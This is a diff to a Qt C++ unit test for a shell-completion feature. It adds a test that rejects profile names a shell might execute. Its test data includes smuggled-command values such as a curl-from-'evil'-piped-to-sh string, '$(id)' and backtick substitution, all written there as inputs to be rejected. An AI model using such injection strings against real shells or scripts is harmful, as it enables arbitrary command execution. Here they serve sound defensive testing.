@@ -52,6 +52,8 @@ private Q_SLOTS:
     void valuesAreAskedFor();
     void everyCommandAndOptionIsOffered();
     void brokenNamesAreNotPrinted();
+    void namesThatAShellWouldRunAreNotOffered_data();
+    void namesThatAShellWouldRunAreNotOffered();
     void theProgramOffersTheFacility();
     void aShareThatHangsIsNotWaitedFor();
     void shellsOffer_data();
@@ -186,6 +188,30 @@ void CompletionTest::brokenNamesAreNotPrinted()
 {
     QCOMPARE(Completer::text({{u"a b"_s, {}}, {u"c\n:files"_s, {}}, {u"d\x1b[2J"_s, {}}, {{}, u"x"_s}, {u"good"_s, u"two\nlines\tand a tab"_s}}),
              u"good\ttwo lines and a tab\n"_s);
+}
+
+void CompletionTest::namesThatAShellWouldRunAreNotOffered_data()
+{
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<bool>("isOffered");
+    QTest::newRow("a good name") << u"hires-2.b_c"_s << true;
+    QTest::newRow("a command behind it") << u"lris;curl${IFS}evil|sh"_s << false;
+    QTest::newRow("an option") << u"--facility=/tmp/x"_s << false;
+    QTest::newRow("an option of ours") << u"--help"_s << false;
+    QTest::newRow("a command in a file's name") << u"$(id)"_s << false;
+    QTest::newRow("back ticks") << u"`id`"_s << false;
+    QTest::newRow("a quote") << u"l'ris"_s << false;
+    QTest::newRow("a line break at its end") << u"lris\n"_s << false;
+    QTest::newRow("what the scripts mean files by") << u":files"_s << false;
+    QTest::newRow("letters that look like others") << u"l\u0433is"_s << false;
+}
+
+void CompletionTest::namesThatAShellWouldRunAreNotOffered()
+{
+    QFETCH(QString, name);
+    QFETCH(bool, isOffered);
+    const QList<Candidate> fitting = Completer::fitting({WordKind::Profile, {}, {}, {}, {}}, {{name, u"a profile"_s}});
+    QCOMPARE(wordsOf(fitting), isOffered ? QStringList{name} : QStringList());
 }
 
 void CompletionTest::theProgramOffersTheFacility()
